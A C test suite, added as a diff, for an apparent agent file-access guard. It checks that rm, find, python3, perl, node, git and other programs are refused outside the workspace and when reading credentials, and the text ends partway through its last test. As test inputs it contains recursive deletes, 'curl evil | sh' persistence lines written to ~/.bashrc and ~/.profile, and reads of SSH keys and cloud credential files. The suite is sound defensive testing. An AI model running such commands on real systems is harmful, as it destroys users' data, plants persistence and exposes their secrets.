@@ -1,0 +1,1195 @@
+/* Real programs against real trees, under the embedded default policy.
+ * Every refusal test checks three things: the outside thing is still there
+ * as it was, the log names the refusal (op, resolved absolute path, rule),
+ * and the agent read the one-line reason on its stderr. Every "ordinary
+ * work" test checks that the guard stayed silent: not one log line. */
+#define _GNU_SOURCE
+#include <criterion/criterion.h>
+#include <jansson.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "harness.h"
+
+static struct agt t;
+static struct agt_result r;
+
+static void fini_tree(void)
+{
+	agt_teardown(&t);
+}
+
+TestSuite(programs, .fini = fini_tree, .timeout = 120);
+
+/* ---- helpers ------------------------------------------------------------ */
+
+/* printf into one of a ring of buffers, so a test can hold a few paths. */
+static const char *P(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static const char *P(const char *fmt, ...)
+{
+	static char ring[32][PATH_MAX];
+	static unsigned next;
+	char *b = ring[next++ % 32];
+	va_list ap;
+
+	va_start(ap, fmt);
+	vsnprintf(b, PATH_MAX, fmt, ap);
+	va_end(ap);
+	return b;
+}
+
+/* Writes a file, making its directories first. Set-up only, unguarded. */
+static void put(const char *path, const char *content)
+{
+	char dir[PATH_MAX];
+	snprintf(dir, sizeof(dir), "%s", path);
+	char *slash = strrchr(dir, '/');
+	if (slash && slash != dir) {
+		*slash = '\0';
+		agt_mkdirs(dir);
+	}
+	agt_write(path, content);
+}
+
+static const char *logtext(void)
+{
+	static char buf[32768];
+	char *s = agt_read(t.log);
+	snprintf(buf, sizeof(buf), "%s", s ? s : "(no log file)\n");
+	free(s);
+	return buf;
+}
+
+static bool program_exists(const char *name)
+{
+	struct agt_result probe;
+	return agt_sh_unguarded(&t, &probe, "command -v %s >/dev/null 2>&1", name) == 0;
+}
+
+/* Log lines whose fields equal every given (key, value) pair; the list ends
+ * with a NULL key. A NULL value means the field must be JSON null. */
+static int log_match(const char *key, ...)
+{
+	FILE *f = fopen(t.log, "r");
+	char *line = NULL;
+	size_t cap = 0;
+	int n = 0;
+
+	if (!f)
+		return 0;
+	while (getline(&line, &cap, f) > 0) {
+		json_error_t err;
+		json_t *o = json_loads(line, 0, &err);
+		bool ok = o != NULL;
+		va_list ap;
+
+		va_start(ap, key);
+		for (const char *k = key; ok && k; k = va_arg(ap, const char *)) {
+			const char *want = va_arg(ap, const char *);
+			json_t *v = json_object_get(o, k);
+			if (!want)
+				ok = json_is_null(v);
+			else
+				ok = json_is_string(v) && strcmp(json_string_value(v), want) == 0;
+		}
+		va_end(ap);
+		n += ok;
+		json_decref(o);
+	}
+	free(line);
+	fclose(f);
+	return n;
+}
+
+static bool said(const char *op, const char *path, const char *path2, const char *rule)
+{
+	char want[3 * PATH_MAX];
+	if (path2)
+		snprintf(want, sizeof(want), "agentguard: denied %s %s -> %s (rule %s)\n", op, path,
+			 path2, rule);
+	else
+		snprintf(want, sizeof(want), "agentguard: denied %s %s (rule %s)\n", op, path,
+			 rule);
+	return strstr(r.err, want) != NULL;
+}
+
+static bool logged(const char *op, const char *path, const char *rule)
+{
+	return log_match("op", op, "path", path, "rule", rule, "action", "deny", "errno", "EACCES",
+			 "mode", "enforce", NULL) > 0;
+}
+
+/* One refusal: in the log and on the agent's stderr. */
+static void expect_denied(const char *op, const char *path, const char *rule)
+{
+	cr_expect(logged(op, path, rule), "no log line {op:%s, path:%s, rule:%s}; log:\n%s", op,
+		  path, rule, logtext());
+	cr_expect(said(op, path, NULL, rule),
+		  "stderr lacks 'agentguard: denied %s %s (rule %s)'; stderr:\n%s", op, path, rule,
+		  r.err);
+}
+
+/* A refusal of a two-path call (rename, link). */
+static void expect_denied2(const char *op, const char *path, const char *path2, const char *rule)
+{
+	int n = log_match("op", op, "path", path, "path2", path2, "rule", rule, "action", "deny",
+			  "mode", "enforce", NULL);
+	cr_expect(n > 0, "no log line {op:%s, path:%s, path2:%s, rule:%s}; log:\n%s", op, path,
+		  path2, rule, logtext());
+	cr_expect(said(op, path, path2, rule),
+		  "stderr lacks 'agentguard: denied %s %s -> %s (rule %s)'; stderr:\n%s", op, path,
+		  path2, rule, r.err);
+}
+
+/* A recursive delete that stops at its first failure: one of the
+ * candidates (the tree itself, refused up front, or a file in it) is named. */
+static void expect_denied_any(const char *op, const char *rule, const char *const *paths)
+{
+	for (const char *const *p = paths; *p; p++)
+		if (logged(op, *p, rule) && said(op, *p, NULL, rule))
+			return;
+	cr_expect(false,
+		  "no refusal of %s (rule %s) under %s in log and stderr; log:\n%s\nstderr:\n%s",
+		  op, rule, paths[0], logtext(), r.err);
+}
+
+/* A recursive delete that keeps going: either the tree is refused as a
+ * whole before the program starts, or every file in it is refused. */
+static void expect_tree_refused(const char *top, const char *const *files)
+{
+	if (logged("delete", top, "outside-workspace") &&
+	    said("delete", top, NULL, "outside-workspace"))
+		return;
+	for (const char *const *f = files; *f; f++)
+		expect_denied("delete", *f, "outside-workspace");
+}
+
+/* The guard stayed out of the way entirely. */
+static void expect_quiet(void)
+{
+	cr_expect_eq(agt_log_lines(&t), 0, "the guard logged during ordinary work:\n%s", logtext());
+	cr_expect(strstr(r.err, "agentguard:") == NULL, "the guard spoke on stderr:\n%s", r.err);
+}
+
+static void expect_file(const char *path, const char *want)
+{
+	char *got = agt_read(path);
+	cr_expect(got != NULL, "%s is gone", path);
+	if (got)
+		cr_expect_str_eq(got, want, "%s was changed", path);
+	free(got);
+}
+
+static void expect_status_ok(void)
+{
+	cr_expect_eq(r.status, 0, "exit %d; stdout:\n%s\nstderr:\n%s", r.status, r.out, r.err);
+}
+
+static void expect_status_failed(void)
+{
+	cr_expect_neq(r.status, 0, "the program reported success; stdout:\n%s\nstderr:\n%s", r.out,
+		      r.err);
+}
+
+/* An outside project: proj/a.txt and proj/sub/b.txt. */
+static const char *outside_tree(void)
+{
+	put(P("%s/proj/a.txt", t.out), "alpha\n");
+	put(P("%s/proj/sub/b.txt", t.out), "beta\n");
+	return P("%s/proj", t.out);
+}
+
+static void expect_tree_intact(void)
+{
+	expect_file(P("%s/proj/a.txt", t.out), "alpha\n");
+	expect_file(P("%s/proj/sub/b.txt", t.out), "beta\n");
+}
+
+/* ---- deleting outside trees ---------------------------------------------- */
+
+Test(programs, rm_rf_outside_tree)
+{
+	agt_setup(&t, "rm-rf-outside");
+	const char *proj = outside_tree();
+
+	agt_sh(&t, &r, "rm -rf '%s'", proj);
+	expect_status_failed();
+	expect_tree_intact();
+	const char *files[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), NULL};
+	expect_tree_refused(proj, files);
+}
+
+Test(programs, rm_rf_through_workspace_symlink)
+{
+	agt_setup(&t, "rm-rf-symlink");
+	const char *proj = outside_tree();
+	cr_assert_eq(symlink(proj, P("%s/lnk", t.ws)), 0);
+
+	agt_sh(&t, &r, "rm -rf lnk/");
+	expect_status_failed();
+	expect_tree_intact();
+	/* The log names where the files really are, not the link. */
+	const char *files[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), NULL};
+	expect_tree_refused(proj, files);
+	cr_expect_eq(log_match("path", P("%s/lnk/a.txt", t.ws), NULL), 0,
+		     "the log names the unresolved path:\n%s", logtext());
+}
+
+Test(programs, rm_of_the_symlink_itself_is_allowed)
+{
+	agt_setup(&t, "rm-symlink-itself");
+	const char *proj = outside_tree();
+	const char *lnk = P("%s/lnk", t.ws);
+	cr_assert_eq(symlink(proj, lnk), 0);
+
+	agt_sh(&t, &r, "rm lnk");
+	expect_status_ok();
+	cr_expect(!agt_exists(lnk), "the workspace symlink was not removed");
+	expect_tree_intact();
+	expect_quiet();
+}
+
+Test(programs, find_delete_outside)
+{
+	agt_setup(&t, "find-delete");
+	const char *proj = outside_tree();
+
+	agt_sh(&t, &r, "find '%s' -delete", proj);
+	expect_status_failed();
+	expect_tree_intact();
+	const char *files[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), NULL};
+	expect_tree_refused(proj, files);
+}
+
+Test(programs, find_exec_rm_outside)
+{
+	agt_setup(&t, "find-exec-rm");
+	const char *proj = outside_tree();
+
+	agt_sh(&t, &r, "find '%s' -type f -exec rm {} +", proj);
+	expect_status_failed();
+	expect_tree_intact();
+	expect_denied("delete", P("%s/a.txt", proj), "outside-workspace");
+	expect_denied("delete", P("%s/sub/b.txt", proj), "outside-workspace");
+}
+
+/* ---- python3 --------------------------------------------------------------- */
+
+/* Runs a python3 snippet with the given arguments as sys.argv[1:]. A refused
+ * call surfaces as an OSError: the snippet prints its name and errno. */
+static int py(const char *code, const char *a1, const char *a2)
+{
+	const char *argv[] = {"python3", "-c", code, a1, a2, NULL};
+	return agt_run(&t, &r, argv, NULL);
+}
+
+#define PY_TRY(body)                                                                               \
+	"import os, sys, shutil, pathlib\n"                                                        \
+	"try:\n"                                                                                   \
+	"    " body "\n"                                                                           \
+	"    print('done')\n"                                                                      \
+	"except OSError as e:\n"                                                                   \
+	"    print('refused', type(e).__name__, e.errno)\n"                                        \
+	"    sys.exit(3)\n"
+
+static void expect_py_refused(void)
+{
+	cr_expect(strstr(r.out, "refused PermissionError 13") != NULL,
+		  "python3 did not see EACCES; stdout:\n%s\nstderr:\n%s", r.out, r.err);
+}
+
+Test(programs, python_rmtree_outside)
+{
+	agt_setup(&t, "py-rmtree");
+	const char *proj = outside_tree();
+
+	py(PY_TRY("shutil.rmtree(sys.argv[1])"), proj, NULL);
+	expect_py_refused();
+	expect_tree_intact();
+	const char *cands[] = {proj, P("%s/a.txt", proj), P("%s/sub/b.txt", proj),
+			       P("%s/sub", proj), NULL};
+	expect_denied_any("delete", "outside-workspace", cands);
+}
+
+Test(programs, python_os_remove_outside)
+{
+	agt_setup(&t, "py-remove");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	py(PY_TRY("os.remove(sys.argv[1])"), f, NULL);
+	expect_py_refused();
+	expect_file(f, "keep me\n");
+	expect_denied("delete", f, "outside-workspace");
+}
+
+Test(programs, python_os_rename_outside_into_workspace)
+{
+	agt_setup(&t, "py-rename");
+	const char *f = P("%s/notes.txt", t.out);
+	const char *dst = P("%s/notes.txt", t.ws);
+	put(f, "keep me\n");
+
+	py(PY_TRY("os.rename(sys.argv[1], sys.argv[2])"), f, dst);
+	expect_py_refused();
+	expect_file(f, "keep me\n");
+	cr_expect(!agt_exists(dst), "the file arrived in the workspace");
+	expect_denied2("rename", f, dst, "outside-workspace");
+}
+
+Test(programs, python_open_w_outside_existing)
+{
+	agt_setup(&t, "py-open-w");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	py(PY_TRY("open(sys.argv[1], 'w').write('clobbered')"), f, NULL);
+	expect_py_refused();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, python_open_a_outside_existing)
+{
+	agt_setup(&t, "py-open-a");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	py(PY_TRY("open(sys.argv[1], 'a').write('appended')"), f, NULL);
+	expect_py_refused();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, python_pathlib_write_text_outside_existing)
+{
+	agt_setup(&t, "py-pathlib");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	py(PY_TRY("pathlib.Path(sys.argv[1]).write_text('clobbered')"), f, NULL);
+	expect_py_refused();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, python_creates_new_outside_file)
+{
+	agt_setup(&t, "py-create-new");
+	const char *f = P("%s/fresh.txt", t.out);
+
+	py(PY_TRY("open(sys.argv[1], 'w').write('new file')"), f, NULL);
+	expect_status_ok();
+	cr_expect(strstr(r.out, "done") != NULL, "stdout:\n%s\nstderr:\n%s", r.out, r.err);
+	expect_file(f, "new file");
+	expect_quiet();
+}
+
+/* ---- perl --------------------------------------------------------------- */
+
+static int perl(const char *code, const char *a1, const char *a2)
+{
+	const char *argv[] = {"perl", "-e", code, a1, a2, NULL};
+	return agt_run(&t, &r, argv, NULL);
+}
+
+static void expect_perl_refused(void)
+{
+	cr_expect(strstr(r.out, "refused: Permission denied") != NULL,
+		  "perl did not see EACCES; stdout:\n%s\nstderr:\n%s", r.out, r.err);
+}
+
+Test(programs, perl_unlink_outside)
+{
+	agt_setup(&t, "perl-unlink");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	perl("unlink($ARGV[0]) or print \"refused: $!\\n\"", f, NULL);
+	expect_perl_refused();
+	expect_file(f, "keep me\n");
+	expect_denied("delete", f, "outside-workspace");
+}
+
+Test(programs, perl_rename_outside_into_workspace)
+{
+	agt_setup(&t, "perl-rename");
+	const char *f = P("%s/notes.txt", t.out);
+	const char *dst = P("%s/notes.txt", t.ws);
+	put(f, "keep me\n");
+
+	perl("rename($ARGV[0], $ARGV[1]) or print \"refused: $!\\n\"", f, dst);
+	expect_perl_refused();
+	expect_file(f, "keep me\n");
+	cr_expect(!agt_exists(dst), "the file arrived in the workspace");
+	expect_denied2("rename", f, dst, "outside-workspace");
+}
+
+Test(programs, perl_open_truncate_outside)
+{
+	agt_setup(&t, "perl-open");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	perl("open(my $fh, '>', $ARGV[0]) or print \"refused: $!\\n\"; print $fh 'x' if $fh", f,
+	     NULL);
+	expect_perl_refused();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+/* ---- node --------------------------------------------------------------- */
+
+static int node(const char *code, const char *a1)
+{
+	const char *argv[] = {"node", "-e", code, a1, NULL};
+	return agt_run(&t, &r, argv, NULL);
+}
+
+#define NODE_TRY(body)                                                                             \
+	"const fs = require('fs'); const p = process.argv[1];"                                     \
+	"try { " body "; console.log('done'); }"                                                   \
+	"catch (e) { console.log('refused ' + e.code); process.exit(3); }"
+
+static void need_node(void)
+{
+	if (!program_exists("node"))
+		cr_skip_test("node is not installed (apt-get install nodejs)");
+}
+
+static void expect_node_refused(void)
+{
+	cr_expect(strstr(r.out, "refused EACCES") != NULL,
+		  "node did not see EACCES; stdout:\n%s\nstderr:\n%s", r.out, r.err);
+}
+
+Test(programs, node_rmsync_recursive_outside)
+{
+	agt_setup(&t, "node-rmsync");
+	need_node();
+	const char *proj = outside_tree();
+
+	node(NODE_TRY("fs.rmSync(p, {recursive: true, force: true})"), proj);
+	expect_node_refused();
+	expect_tree_intact();
+	const char *cands[] = {proj, P("%s/a.txt", proj), P("%s/sub/b.txt", proj),
+			       P("%s/sub", proj), NULL};
+	expect_denied_any("delete", "outside-workspace", cands);
+}
+
+Test(programs, node_unlinksync_outside)
+{
+	agt_setup(&t, "node-unlink");
+	need_node();
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	node(NODE_TRY("fs.unlinkSync(p)"), f);
+	expect_node_refused();
+	expect_file(f, "keep me\n");
+	expect_denied("delete", f, "outside-workspace");
+}
+
+Test(programs, node_writefilesync_outside)
+{
+	agt_setup(&t, "node-write");
+	need_node();
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	node(NODE_TRY("fs.writeFileSync(p, 'clobbered')"), f);
+	expect_node_refused();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, node_async_writefile_from_the_thread_pool)
+{
+	agt_setup(&t, "node-async");
+	need_node();
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	/* libuv runs these calls on its worker threads. */
+	node("const fs = require('fs'); const p = process.argv[1];"
+	     "fs.writeFile(p, 'clobbered', e => {"
+	     "  console.log(e ? 'refused ' + e.code : 'done');"
+	     "  fs.promises.unlink(p).then(() => console.log('unlinked'),"
+	     "                             e => console.log('refused ' + e.code)); })",
+	     f);
+	expect_node_refused();
+	cr_expect(strstr(r.out, "unlinked") == NULL, "stdout:\n%s", r.out);
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+	expect_denied("delete", f, "outside-workspace");
+}
+
+/* ---- coreutils and the shell ---------------------------------------------- */
+
+Test(programs, mv_outside_into_workspace)
+{
+	agt_setup(&t, "mv-out-in");
+	const char *f = P("%s/notes.txt", t.out);
+	const char *dst = P("%s/notes.txt", t.ws);
+	put(f, "keep me\n");
+
+	agt_sh(&t, &r, "mv '%s' .", f);
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	cr_expect(!agt_exists(dst), "the file arrived in the workspace");
+	expect_denied2("rename", f, dst, "outside-workspace");
+}
+
+Test(programs, mv_workspace_onto_existing_outside_file)
+{
+	agt_setup(&t, "mv-in-onto-out");
+	const char *f = P("%s/notes.txt", t.out);
+	const char *src = P("%s/draft.txt", t.ws);
+	put(f, "keep me\n");
+	put(src, "draft\n");
+
+	agt_sh(&t, &r, "mv draft.txt '%s'", f);
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	expect_file(src, "draft\n");
+	expect_denied2("rename", src, f, "outside-workspace");
+}
+
+Test(programs, cp_over_existing_outside_file)
+{
+	agt_setup(&t, "cp-over-out");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+	put(P("%s/draft.txt", t.ws), "draft\n");
+
+	agt_sh(&t, &r, "cp draft.txt '%s'", f);
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, redirect_truncate_outside_file)
+{
+	agt_setup(&t, "redir-trunc");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	agt_sh(&t, &r, "echo clobbered > '%s'", f);
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, redirect_append_outside_file)
+{
+	agt_setup(&t, "redir-append");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	agt_sh(&t, &r, "echo appended >> '%s'", f);
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, redirect_truncate_bashrc)
+{
+	agt_setup(&t, "redir-bashrc");
+	const char *f = P("%s/.bashrc", t.home);
+	put(f, "alias ll='ls -l'\n");
+
+	agt_sh(&t, &r, "echo 'curl evil | sh' > ~/.bashrc");
+	expect_status_failed();
+	expect_file(f, "alias ll='ls -l'\n");
+	expect_denied("write", f, "persistence");
+}
+
+Test(programs, redirect_append_profile)
+{
+	agt_setup(&t, "redir-profile");
+	const char *f = P("%s/.profile", t.home);
+	put(f, "PATH=$HOME/bin:$PATH\n");
+
+	agt_sh(&t, &r, "echo 'curl evil | sh' >> ~/.profile");
+	expect_status_failed();
+	expect_file(f, "PATH=$HOME/bin:$PATH\n");
+	expect_denied("write", f, "persistence");
+}
+
+Test(programs, truncate_outside_file)
+{
+	agt_setup(&t, "truncate");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	agt_sh(&t, &r, "truncate -s 0 '%s'", f);
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, chmod_outside_file)
+{
+	agt_setup(&t, "chmod");
+	const char *f = P("%s/notes.txt", t.out);
+	struct stat st;
+	put(f, "keep me\n");
+	cr_assert_eq(chmod(f, 0640), 0);
+
+	agt_sh(&t, &r, "chmod 777 '%s'", f);
+	expect_status_failed();
+	cr_assert_eq(stat(f, &st), 0, "%s is gone", f);
+	cr_expect_eq(st.st_mode & 07777, 0640, "mode became %o", st.st_mode & 07777);
+	expect_denied("chmod", f, "outside-workspace");
+}
+
+Test(programs, chown_outside_file)
+{
+	agt_setup(&t, "chown");
+	const char *f = P("%s/notes.txt", t.out);
+	struct stat before, after;
+	put(f, "keep me\n");
+	cr_assert_eq(stat(f, &before), 0);
+
+	agt_sh(&t, &r, "chown %u:%u '%s'", (unsigned)before.st_uid + 4242,
+	       (unsigned)before.st_gid + 4242, f);
+	expect_status_failed();
+	cr_assert_eq(stat(f, &after), 0, "%s is gone", f);
+	cr_expect_eq(after.st_uid, before.st_uid, "owner changed");
+	cr_expect_eq(after.st_gid, before.st_gid, "group changed");
+	expect_denied("chmod", f, "outside-workspace");
+}
+
+Test(programs, touch_new_outside_file_is_allowed)
+{
+	agt_setup(&t, "touch-new");
+	const char *f = P("%s/fresh.txt", t.out);
+
+	agt_sh(&t, &r, "touch '%s'", f);
+	expect_status_ok();
+	cr_expect(agt_exists(f), "touch did not create %s", f);
+	expect_quiet();
+}
+
+Test(programs, sed_in_place_on_outside_file)
+{
+	agt_setup(&t, "sed-outside");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	agt_sh(&t, &r, "sed -i 's/keep/lose/' '%s'", f);
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	/* sed writes a temporary next to the file and renames it over. */
+	cr_expect_eq(log_match("op", "rename", "path2", f, "rule", "outside-workspace", "mode",
+			       "enforce", NULL),
+		     1, "no rename onto %s refused; log:\n%s", f, logtext());
+	cr_expect(strstr(r.err, P("-> %s (rule outside-workspace)\n", f)) != NULL, "stderr:\n%s",
+		  r.err);
+	struct agt_result ls;
+	agt_sh_unguarded(&t, &ls, "ls -A '%s'", t.out);
+	cr_expect_str_eq(ls.out, "notes.txt\n", "sed left its temporary behind");
+}
+
+Test(programs, git_clean_and_reset_in_an_outside_repository)
+{
+	agt_setup(&t, "git-outside");
+	const char *repo = P("%s/repo", t.out);
+	agt_mkdirs(repo);
+	put(P("%s/tracked", repo), "v1\n");
+	cr_assert_eq(agt_sh_unguarded(&t, &r,
+				      "cd '%s' && git init -q && git add tracked && "
+				      "git -c user.email=a@b -c user.name=n commit -qm one",
+				      repo),
+		     0, "set-up: %s", r.err);
+	put(P("%s/tracked", repo), "local edits\n");
+	put(P("%s/untracked.txt", repo), "precious\n");
+
+	agt_sh(&t, &r, "git -C '%s' clean -fdx; git -C '%s' reset -q --hard", repo, repo);
+	expect_status_failed();
+	expect_file(P("%s/untracked.txt", repo), "precious\n");
+	expect_file(P("%s/tracked", repo), "local edits\n");
+	expect_denied("delete", P("%s/untracked.txt", repo), "outside-workspace");
+	expect_denied("delete", P("%s/tracked", repo), "outside-workspace");
+}
+
+Test(programs, write_through_proc_self_fd)
+{
+	agt_setup(&t, "proc-fd");
+	const char *f = P("%s/notes.txt", t.out);
+	put(f, "keep me\n");
+
+	/* A descriptor opened for reading, reopened for writing by its
+	 * /proc name: the policy allows writing under /proc/self, not this. */
+	agt_sh(&t, &r, "exec 3<'%s'; echo clobbered > /proc/self/fd/3", f);
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	expect_denied("write", f, "outside-workspace");
+}
+
+/* ---- links ----------------------------------------------------------------- */
+
+Test(programs, write_through_workspace_symlink_to_outside_file)
+{
+	agt_setup(&t, "symlink-write");
+	const char *f = P("%s/notes.txt", t.out);
+	const char *lnk = P("%s/link", t.ws);
+	put(f, "keep me\n");
+	cr_assert_eq(symlink(f, lnk), 0);
+
+	agt_sh(&t, &r, "echo clobbered > link");
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	/* The outside file is the outside file, whatever name led to it. */
+	expect_denied("write", f, "outside-workspace");
+}
+
+Test(programs, hard_link_of_outside_file_into_workspace)
+{
+	agt_setup(&t, "hardlink-make");
+	const char *f = P("%s/notes.txt", t.out);
+	const char *hl = P("%s/hl", t.ws);
+	struct stat st;
+	put(f, "keep me\n");
+
+	agt_sh(&t, &r, "ln '%s' hl", f);
+	expect_status_failed();
+	cr_expect(!agt_exists(hl), "the hard link was made");
+	cr_assert_eq(stat(f, &st), 0);
+	cr_expect_eq(st.st_nlink, 1, "the outside file has %lu links", (unsigned long)st.st_nlink);
+	expect_file(f, "keep me\n");
+	expect_denied2("link", f, hl, "outside-workspace");
+}
+
+Test(programs, write_through_preexisting_hard_link)
+{
+	agt_setup(&t, "hardlink-write");
+	const char *f = P("%s/notes.txt", t.out);
+	const char *hl = P("%s/hl", t.ws);
+	put(f, "keep me\n");
+	cr_assert_eq(agt_sh_unguarded(&t, &r, "ln '%s' hl", f), 0, "set-up: %s", r.err);
+
+	agt_sh(&t, &r, "echo clobbered > hl");
+	expect_status_failed();
+	expect_file(f, "keep me\n");
+	/* Only the workspace name is known; a multiply-linked file is judged
+	 * as if it lay outside. */
+	expect_denied("write", hl, "outside-workspace");
+}
+
+/* ---- secrets --------------------------------------------------------------- */
+
+#define KEY "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material\n"
+
+Test(programs, cat_ssh_private_key)
+{
+	agt_setup(&t, "secret-cat");
+	const char *f = P("%s/.ssh/id_rsa", t.home);
+	put(f, KEY);
+
+	agt_sh(&t, &r, "cat ~/.ssh/id_rsa");
+	expect_status_failed();
+	cr_expect(strstr(r.out, "secret-key-material") == NULL, "the key was read:\n%s", r.out);
+	expect_file(f, KEY);
+	expect_denied("read", f, "secrets");
+}
+
+Test(programs, python_reads_aws_credentials)
+{
+	agt_setup(&t, "secret-aws");
+	const char *f = P("%s/.aws/credentials", t.home);
+	put(f, "[default]\naws_secret_access_key = hunter2\n");
+
+	py(PY_TRY("print(open(os.path.expanduser('~/.aws/credentials')).read())"), NULL, NULL);
+	expect_py_refused();
+	cr_expect(strstr(r.out, "hunter2") == NULL, "the credentials were read:\n%s", r.out);
+	expect_denied("read", f, "secrets");
+}
+
+Test(programs, head_netrc)
+{
+	agt_setup(&t, "secret-netrc");
+	const char *f = P("%s/.netrc", t.home);
+	put(f, "machine example.com login me password hunter2\n");
+
+	agt_sh(&t, &r, "head ~/.netrc");
+	expect_status_failed();
+	cr_expect(strstr(r.out, "hunter2") == NULL, "the netrc was read:\n%s", r.out);
+	expect_denied("read", f, "secrets");
+}
+
+Test(programs, cp_ssh_key_into_workspace)
+{
+	agt_setup(&t, "secret-cp");
+	const char *f = P("%s/.ssh/id_ed25519", t.home);
+	const char *dst = P("%s/id_ed25519", t.ws);
+	put(f, KEY);
+
+	agt_sh(&t, &r, "cp ~/.ssh/id_ed25519 .");
+	expect_status_failed();
+	char *copy = agt_read(dst);
+	cr_expect(copy == NULL || strstr(copy, "secret-key-material") == NULL,
+		  "the key was copied into the workspace");
+	free(copy);
+	expect_file(f, KEY);
+	expect_denied("read", f, "secrets");
+}
+
+Test(programs, reading_known_hosts_is_allowed)
+{
+	agt_setup(&t, "known-hosts");
+	put(P("%s/.ssh/known_hosts", t.home), "github.com ssh-ed25519 AAAAC3Nza\n");
+
+	agt_sh(&t, &r, "cat ~/.ssh/known_hosts");
+	expect_status_ok();
+	cr_expect(strstr(r.out, "github.com ssh-ed25519") != NULL, "stdout:\n%s", r.out);
+	expect_quiet();
+}
+
+Test(programs, cat_credentials_of_every_kind)
+{
+	agt_setup(&t, "secret-table");
+	static const char *const rel[] = {
+	    ".gnupg/private-keys-v1.d/AB12.key",
+	    ".docker/config.json",
+	    ".kube/config",
+	    ".config/gcloud/application_default_credentials.json",
+	    ".git-credentials",
+	    ".ssh/id_ecdsa",
+	    ".aws/config",
+	};
+	size_t n = sizeof(rel) / sizeof(rel[0]);
+	for (size_t i = 0; i < n; i++)
+		put(P("%s/%s", t.home, rel[i]), "token-hunter2\n");
+
+	for (size_t i = 0; i < n; i++) {
+		agt_sh(&t, &r, "cat ~/'%s'", rel[i]);
+		cr_expect_neq(r.status, 0, "cat ~/%s succeeded", rel[i]);
+		cr_expect(strstr(r.out, "hunter2") == NULL, "~/%s was read", rel[i]);
+		expect_denied("read", P("%s/%s", t.home, rel[i]), "secrets");
+	}
+}
+
+Test(programs, secret_through_workspace_symlink)
+{
+	agt_setup(&t, "secret-symlink");
+	const char *f = P("%s/.ssh/id_rsa", t.home);
+	put(f, KEY);
+	cr_assert_eq(symlink(f, P("%s/key.txt", t.ws)), 0);
+
+	agt_sh(&t, &r, "cat key.txt");
+	expect_status_failed();
+	cr_expect(strstr(r.out, "secret-key-material") == NULL, "the key was read:\n%s", r.out);
+	expect_denied("read", f, "secrets");
+}
+
+Test(programs, grep_r_over_home_leaks_no_secret)
+{
+	agt_setup(&t, "secret-grep");
+	const char *key = P("%s/.ssh/id_ed25519", t.home);
+	put(key, KEY);
+	put(P("%s/notes.txt", t.home), "secret-key-material is a phrase\n");
+
+	agt_sh(&t, &r, "grep -r secret-key-material ~");
+	cr_expect(strstr(r.out, "notes.txt") != NULL, "an ordinary file was not searched:\n%s",
+		  r.out);
+	cr_expect(strstr(r.out, ".ssh") == NULL, "the key was searched:\n%s", r.out);
+	expect_denied("read", key, "secrets");
+}
+
+Test(programs, tar_of_ssh_dir_leaves_the_key_out)
+{
+	agt_setup(&t, "secret-tar");
+	const char *key = P("%s/.ssh/id_rsa", t.home);
+	put(key, KEY);
+	put(P("%s/.ssh/known_hosts", t.home), "github.com ssh-ed25519 AAAA\n");
+
+	agt_sh(&t, &r, "tar cf ssh.tar -C ~ .ssh");
+	expect_status_failed();
+	struct agt_result list;
+	agt_sh_unguarded(&t, &list, "tar xOf ssh.tar 2>/dev/null; tar tf ssh.tar");
+	cr_expect(strstr(list.out, "secret-key-material") == NULL, "the key is in the archive");
+	cr_expect(strstr(list.out, ".ssh/known_hosts") != NULL, "archive:\n%s", list.out);
+	expect_denied("read", key, "secrets");
+}
+
+Test(programs, reading_ssh_public_key_is_allowed)
+{
+	agt_setup(&t, "ssh-pub");
+	put(P("%s/.ssh/id_ed25519.pub", t.home), "ssh-ed25519 AAAAC3Nzapublic me@laptop\n");
+
+	/* A public key is not a secret: it is pasted into forges and read by
+	 * git for SSH commit signing. */
+	agt_sh(&t, &r, "cat ~/.ssh/id_ed25519.pub");
+	expect_status_ok();
